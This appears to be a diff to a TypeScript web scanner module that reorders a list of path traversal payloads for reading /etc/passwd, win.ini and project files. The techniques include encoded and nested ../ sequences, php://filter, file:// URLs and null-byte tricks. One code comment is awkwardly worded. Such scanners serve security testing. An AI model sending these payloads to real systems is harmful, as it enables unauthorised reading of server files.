@@ -15,20 +15,45 @@ const up = (step: string): string => step.repeat(steps)
 
 const { passwd, winIni, packageJson } = knownFiles
 
-/** The likeliest first. */
-const common: readonly TraversalPayload[] = [
-  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
-  { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` },
+/** Ways that differ in what stands in front of a value, or checks it: the likeliest first. */
+const likeliest: readonly TraversalPayload[] = [
   {
-    name: 'nested ../ sequences, which survive removal of ../',
+    // Read from a folder it leaves that, and read from nowhere else the steps at the root lead nowhere.
+    name: '../ sequences behind a slash',
     file: passwd,
-    write: (_, path) => `${up('....//')}${path}`,
+    write: (_, path) => `/${up('../')}${path}`,
   },
   {
     name: 'double-encoded ../ sequences',
     file: passwd,
     write: (_, path) => `${up('%2e%2e%2f')}${path}`,
   },
+  { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` },
+  {
+    name: 'nested ../ sequences, which survive removal of ../',
+    file: passwd,
+    write: (_, path) => `${up('....//')}${path}`,
+  },
+]
+
+/** The same for what reads files of other kinds. */
+const elsewhere: readonly TraversalPayload[] = [
+  {
+    name: '..\\ sequences behind a backslash (Windows)',
+    file: winIni,
+    write: (_, path) => `\\${up('..\\')}${path}`,
+  },
+  {
+    name: 'php://filter',
+    file: { ...passwd, recognize: recognizeEncoded },
+    write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
+  },
+  { name: 'file:// URL', file: passwd, write: (_, path) => `file:///${path}` },
+]
+
+/** What only a value needs that is known to be the path of a file. */
+const seldom: readonly TraversalPayload[] = [
+  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
   {
     name: '../ sequences after the directory of the value',
     file: passwd,
@@ -44,12 +69,6 @@ const common: readonly TraversalPayload[] = [
     file: passwd,
     write: (value, path) => `/${path}\0${extensionOf(value)}`,
   },
-  { name: 'file:// URL', file: passwd, write: (_, path) => `file:///${path}` },
-  {
-    name: 'php://filter',
-    file: { ...passwd, recognize: recognizeEncoded },
-    write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
-  },
   {
     name: 'twice double-encoded ../ sequences',
     file: passwd,
@@ -57,7 +76,6 @@ const common: readonly TraversalPayload[] = [
   },
   { name: '../ repeated 5 times', file: passwd, write: (_, path) => `${'../'.repeat(5)}${path}` },
   { name: '../ repeated 2 times', file: passwd, write: (_, path) => `${'../'.repeat(2)}${path}` },
-  { name: '..\\ sequences (Windows)', file: winIni, write: (_, path) => `${up('..\\')}${path}` },
   { name: 'absolute path (Windows)', file: winIni, write: (_, path) => `C:\\${path}` },
 ]
 
@@ -68,9 +86,19 @@ const ofProject: readonly TraversalPayload[] = [1, 2, 3, 4].map((count) => ({
   write: (_, path) => `${'../'.repeat(count)}${path}`,
 }))
 
+/** How many of the payloads, the likeliest first, tell something of values that are not known to be paths. */
+export const payloadCounts = {
+  first: 1,
+  /** With the way that is left where slashes are turned away. */
+  encoded: 2,
+  likeliest: likeliest.length,
+  ofAnyReader: likeliest.length + elsewhere.length,
+} as const
+
 /** The payloads for a parameter that has this value, the likeliest first. */
 export function traversalPayloadsFor(value: string): readonly TraversalPayload[] {
-  return value.endsWith('.json') ? [...common, ...ofProject] : common
+  const all = [...likeliest, ...elsewhere, ...seldom]
+  return value.endsWith('.json') ? [...all, ...ofProject] : all
 }
 
 const base64CharsMin = 80
